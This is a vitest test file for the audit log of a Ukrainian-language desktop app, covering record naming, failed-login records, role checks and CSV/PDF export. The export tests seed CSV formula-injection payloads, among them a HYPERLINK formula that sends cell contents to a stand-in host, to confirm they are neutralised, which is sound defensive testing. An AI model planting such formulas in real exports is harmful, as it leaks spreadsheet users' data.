import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { detailPhrases, recordLink, recordPhrase } from '../../src/shared/audit-words';
import type { AuditEvent } from '../../src/shared/domain/audit';
import { neutraliseFormula } from '../../src/main/documents/audit/audit-log';
import { FEATURE_TEXTS_UK, sayPhrase } from '../../src/main/features/audit/audit.words';
import type { PdfPrinter } from '../../src/main/kernel/pdf';
import { holdMeeting, seatGroup } from '../fixtures/meetings';
import { ADMIN, adminRuntime, call, cleanupTempDirs, failure, type TestRuntime } from '../fixtures/store';

afterEach(cleanupTempDirs);

const said = (event: AuditEvent) => {
  const record = recordPhrase(event.record);
  return { record: record ? sayPhrase(record) : null, details: detailPhrases(event).map(sayPhrase), link: recordLink(event.record) };
};

async function rows(rt: TestRuntime, filter: { action?: string } = {}): Promise<AuditEvent[]> {
  return (await call(rt, 'audit:list', { limit: 500, ...filter })).rows;
}

/** A printer that keeps the HTML it was given, as Electron's would print it. */
function capturingPrinter(): PdfPrinter & { pages: string[] } {
  const pages: string[] = [];
  return { pages, print: async (html) => (pages.push(html), Buffer.from('%PDF-1.7 test')) };
}

function csvOf(file: { base64: string }): string {
  return Buffer.from(file.base64, 'base64').toString('utf8');
}

describe('the audit log names its records', () => {
  it('names meetings, assignments, organisations, members, users and kept drafts by what a person knows, and links them', async () => {
    const rt = await adminRuntime();
    const { orgs, members } = await seatGroup(rt);
    const meeting = await holdMeeting(rt, '2026-03-12', 6);
    const assignment = await call(rt, 'assignments:create', {
      decisionId: meeting.agenda[1]!.decisions[1]!.id,
      text: 'Провести навчання.',
      leadOrganisationId: orgs[0]!.id,
      dueDate: '2026-06-30',
    });
    const { createdAt: _c, updatedAt: _u, mergedIntoId: _m, ...police } = orgs.find((o) => o.type === 'police')!;
    await call(rt, 'organisations:save', { ...police, name: 'Головне управління Національної поліції в Полтавській області' });
    const user = await call(rt, 'users:add', { login: 'm.koval', displayName: 'Мар’яна Коваль', roles: ['secretary'], initialPassphrase: 'початковий пароль секретаря 1' });
    await call(rt, 'drafts:save', { key: `meetings:${meeting.id}`, label: 'засідання № 1/2026', payload: '{}' });

    const events = await rows(rt);
    const first = (action: string) => said(events.find((e) => e.action === action)!);
    expect(first('meeting.updated')).toMatchObject({ record: 'засідання № 1/2026', link: { page: 'meetings', id: meeting.id } });
    expect(first('assignment.created')).toMatchObject({ record: 'доручення 2.2 протоколу № 1/2026', link: { page: 'assignments', id: assignment.id } });
    // The name as it is now, not as it was: the log says which record, the record says what it is called.
    expect(first('organisation.updated')).toMatchObject({ record: 'Головне управління Національної поліції в Полтавській області', link: { page: 'organisations', id: police.id } });
    expect(first('member.added')).toMatchObject({ record: 'Лисенко Тетяна Юріївна', link: { page: 'group' } });
    expect(first('user.created')).toMatchObject({ record: 'm.koval — Мар’яна Коваль', link: { page: 'users' } });
    expect(first('draft.kept')).toMatchObject({ record: 'засідання № 1/2026', link: { page: 'meetings', id: meeting.id } });
    expect(events.find((e) => e.action === 'user.created' && e.entityId === user.id)!.actorName).toBe(ADMIN.displayName);
    // The first member saved is the last shown; every member is named.
    expect(events.filter((e) => e.action === 'member.added').map((e) => e.record?.name)).toContain(`${members[0]!.surname} ${members[0]!.givenName} ${members[0]!.patronymic}`);
    // An event without a record (the seeded set of organisations) names none and links nowhere.
    expect(first('organisation.seeded')).toEqual({ record: null, details: [], link: null });
  });

  it('names the page in one statement whose joins are primary-key lookups, never a scan of a named table', async () => {
    const rt = await adminRuntime();
    const db = rt.core.requireStore().db;
    const statements: string[] = [];
    const prepare = db.prepare.bind(db);
    db.prepare = ((sql: string) => (statements.push(sql), prepare(sql))) as typeof db.prepare;
    try {
      await call(rt, 'audit:list', { limit: 50 });
    } finally {
      db.prepare = prepare;
    }
    const page = statements.filter((s) => s.includes('audit_events'));
    expect(page).toHaveLength(1);
    const plan = (db.prepare(`EXPLAIN QUERY PLAN ${page[0]!}`).all({ limit: 51 }) as { detail: string }[]).map((r) => r.detail);
    // The events are walked by their key, newest first, stopping at the limit (`p` is that page); nothing is sorted
    // afterwards; every name is one lookup by primary key, for the events shown only.
    expect(plan.filter((d) => d.startsWith('SCAN '))).toEqual(['SCAN e', 'SCAN p']);
    expect(plan.some((d) => d.includes('TEMP B-TREE'))).toBe(false);
    const lookups = plan.filter((d) => d.startsWith('SEARCH '));
    expect(lookups.length).toBeGreaterThanOrEqual(10);
    for (const lookup of lookups) expect(lookup).toMatch(/^SEARCH \w+ USING INDEX sqlite_autoindex_\w+_1 \(id=\?\) LEFT-JOIN$/);
  });
});

describe('failed attempts and locks', () => {
  it('keeps the time of each failed attempt and whose account it was, and why each lock happened', async () => {
    const rt = await adminRuntime();
    await call(rt, 'session:lock', {});
    expect((await failure(rt, 'session:unlock', { login: ADMIN.login, passphrase: 'не той пароль зовсім' })).code).toBe('WRONG_CREDENTIALS');
    rt.clock.advance(95_000);
    expect((await failure(rt, 'session:unlock', { login: 'nobody', passphrase: 'не той пароль зовсім' })).code).toBe('WRONG_CREDENTIALS');
    rt.clock.advance(3_600_000);
    await call(rt, 'session:unlock', { login: ADMIN.login, passphrase: ADMIN.passphrase });
    await call(rt, 'settings:update', { idleLockMinutes: 5, lockWarningSeconds: 60, backupReminderDays: 7 });
    rt.clock.advance(6 * 60_000);
    expect((await failure(rt, 'audit:list', {})).code).toBe('LOCKED');
    await call(rt, 'session:unlock', { login: ADMIN.login, passphrase: ADMIN.passphrase });

    const failed = await rows(rt, { action: 'auth.unlock_failed' });
    // FakeClock starts at 09:00 UTC on 20.11.2026: 11:00 in Kyiv, winter time. Newest first.
    expect(failed.map((e) => said(e).details)).toEqual([['спроба о 20.11.2026 11:01:35'], ['спроба о 20.11.2026 11:00:00']]);
    expect(failed.map((e) => said(e).record)).toEqual([null, `${ADMIN.login} — ${ADMIN.displayName}`]);
    // Both entered the log at the unlock an hour later: the event's own time is not the attempt's.
    expect(new Set(failed.map((e) => e.ts)).size).toBe(1);
    const locks = await rows(rt, { action: 'auth.lock' });
    expect(locks.map((e) => said(e).details)).toEqual([['через бездіяльність у програмі'], ['вручну']]);
    // The exported file says the same: no login for the system, whose account, and when.
    const csv = csvOf(await call(rt, 'audit:export', { format: 'csv', action: 'auth.unlock_failed' }));
    expect(csv).toContain(`;;система;Невдала спроба входу;auth.unlock_failed;Користувач;${ADMIN.login} — ${ADMIN.displayName};`);
    expect(csv).toContain(';спроба о 20.11.2026 11:00:00;test-pc\r\n');
  });
});

describe('export of the log', () => {
  it('writes the filtered log as UTF-8 CSV with a BOM, semicolons and CRLF, its cells safe from formulas, and audits the export', async () => {
    const rt = await adminRuntime();
    await call(rt, 'organisations:save', { name: '=HYPERLINK("http://x.example/?"&A1;"ok")', type: 'ngo' });
    await call(rt, 'organisations:save', { name: '@SUM(1+1)', type: 'ngo' });
    const file = await call(rt, 'audit:export', { format: 'csv', action: 'organisation.created' });
    expect(file.mimeType).toBe('text/csv;charset=utf-8');
    expect(file.fileName).toMatch(/^zhurnal-podii-pochatok--2026-11-20\.csv$/);
    const bytes = Buffer.from(file.base64, 'base64');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csvOf(file).slice(1).split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe('№ події;Час (Київ);Час (UTC);Логін;Користувач;Дія;Код дії;Об’єкт;Запис;Ідентифікатор запису;Подробиці;Робоче місце');
    expect(lines).toHaveLength(4);
    expect(lines[1]).toContain(";olena;Коваленко Олена Петрівна;Організацію додано;organisation.created;Суб’єкт взаємодії;'@SUM(1+1);");
    // A cell with a semicolon or quote is quoted, its quotes doubled, after the apostrophe that keeps it text.
    expect(lines[2]).toContain(`;"'=HYPERLINK(""http://x.example/?""&A1;""ok"")";`);

    const exported = (await rows(rt, { action: 'audit.exported' }))[0]!;
    expect(exported.details).toEqual({ format: 'csv', count: 2, filterAction: 'organisation.created' });
    expect(said(exported).details).toEqual(['формат CSV', 'подій у файлі: 2']);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+380 50 000 00 00', "'+380 50 000 00 00"],
    ['-2', "'-2"],
    ['@A1', "'@A1"],
    ['\tTAB', "'\tTAB"],
    ['\rCR', "'\rCR"],
    ['засідання № 4/2026', 'засідання № 4/2026'],
  ])('neutralises %j', (cell, safe) => {
    expect(neutraliseFormula(cell)).toBe(safe);
  });

  it('prints the PDF from an A4 landscape page with the title, filter, period, who exported and when, and page numbers', async () => {
    const printer = capturingPrinter();
    const rt = await adminRuntime({ pdf: printer });
    await seatGroup(rt);
    await holdMeeting(rt, '2026-03-12', 6);
    const file = await call(rt, 'audit:export', { format: 'pdf', from: '2026-11-01', to: '2026-11-30', actorId: rt.core.session!.userId, action: 'meeting.updated' });
    expect(file).toMatchObject({ fileName: 'zhurnal-podii-2026-11-01--2026-11-30.pdf', mimeType: 'application/pdf' });
    const html = printer.pages[0]!;
    expect(html).toContain('size: A4 landscape');
    expect(html).toContain('counter(page)');
    expect(html).toContain('counter(pages)');
    expect(html).toContain('<h1>Журнал подій «Злагоди»</h1>');
    expect(html).toContain('<dt>Фільтр</dt><dd>дія «Засідання змінено»; користувач olena (Коваленко Олена Петрівна)</dd>');
    expect(html).toContain('<dt>Період</dt><dd>з 01.11.2026 по 30.11.2026</dd>');
    expect(html).toContain('<dt>Вивантажено</dt><dd>20.11.2026 11:00, olena (Коваленко Олена Петрівна)</dd>');
    expect(html).toContain('засідання № 1/2026');
    expect(html).not.toMatch(/<script/i);
  });

  it('says PDF_UNAVAILABLE where no printer is supplied, and leaves no export in the log', async () => {
    const rt = await adminRuntime();
    const before = (await rows(rt)).length;
    expect((await failure(rt, 'audit:export', { format: 'pdf' })).code).toBe('PDF_UNAVAILABLE');
    expect(await rows(rt)).toHaveLength(before);
  });

  it('refuses more events than one file holds, whole or not at all', async () => {
    const rt = await adminRuntime({ pdf: capturingPrinter() });
    const store = rt.core.requireStore();
    store.db.transaction(() => {
      for (let i = 0; i < 5_000; i++) store.audit.append({ userId: null, workstation: 'test-pc' }, { action: 'audit.verified', details: { status: 'intact', count: i } });
    })();
    const error = await failure(rt, 'audit:export', { format: 'pdf' });
    expect(error.code).toBe('EXPORT_TOO_LARGE');
    expect(error.details.limit).toBe(5_000);
    expect((await rows(rt, { action: 'audit.exported' })).length).toBe(0);
    // Narrowed to fewer events, the same export is made.
    expect((await call(rt, 'audit:export', { format: 'pdf', action: 'user.created' })).mimeType).toBe('application/pdf');
  });

  it('is for those who may read the log: an auditor may, a secretary may not', async () => {
    const rt = await adminRuntime();
    await call(rt, 'users:add', { login: 'auditor', displayName: 'Ігор Бондар', roles: ['auditor'], initialPassphrase: 'тимчасовий пароль 12345' });
    await call(rt, 'users:add', { login: 'secretary', displayName: 'Наталія Коваль', roles: ['secretary'], initialPassphrase: 'тимчасовий пароль 12345' });
    for (const [login, allowed] of [['auditor', true], ['secretary', false]] as const) {
      await call(rt, 'session:lock', {});
      await call(rt, 'session:unlock', { login, passphrase: 'тимчасовий пароль 12345' });
      await call(rt, 'session:changePassphrase', { current: 'тимчасовий пароль 12345', next: `власний довгий пароль для ${login === 'auditor' ? 'перевірки' : 'протоколів'}` });
      const result = await rt.dispatch('audit:export', { format: 'csv' });
      expect(result.ok ? 'ok' : result.error.code).toBe(allowed ? 'ok' : 'FORBIDDEN');
    }
  });

  it('words the exported file with every feature’s texts', () => {
    const folder = join(__dirname, '..', '..', 'src', 'shared', 'i18n', 'features');
    const features = readdirSync(folder).filter((f) => f.endsWith('.uk.json')).map((f) => f.replace('.uk.json', ''));
    expect(Object.keys(FEATURE_TEXTS_UK).sort()).toEqual(features.sort());
  });
});
